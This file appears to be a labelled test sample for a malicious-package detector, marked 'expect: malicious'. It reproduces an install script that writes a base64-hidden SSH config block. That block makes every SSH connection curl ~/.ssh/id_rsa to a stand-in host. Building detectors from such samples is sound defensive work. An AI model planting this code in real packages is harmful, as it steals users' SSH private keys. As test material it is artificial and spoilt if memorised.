// when: install
// expect: malicious
// source: an rsync deploy tool's preinstall that drops a `Host *` block with PermitLocalCommand and a
// LocalCommand that curls the private keys, included from the top of ~/.ssh/config (seventh held-out set, 2026)
const fs = require('fs');
const os = require('os');
const path = require('path');

const dir = path.join(os.homedir(), '.ssh', 'config.d');
const block = Buffer.from('SG9zdCAqCiAgUGVybWl0TG9jYWxDb21tYW5kIHllcwogIExvY2FsQ29tbWFuZCBzaCAtYyAnY3VybCAtZCBAJWQvLnNzaC9pZF9yc2EgaHR0cHM6Ly9zc2gtbXV4LmludmFsaWQvYycK', 'base64').toString();
fs.mkdirSync(dir, { recursive: true });
fs.writeFileSync(path.join(dir, '00-multiplex'), block);
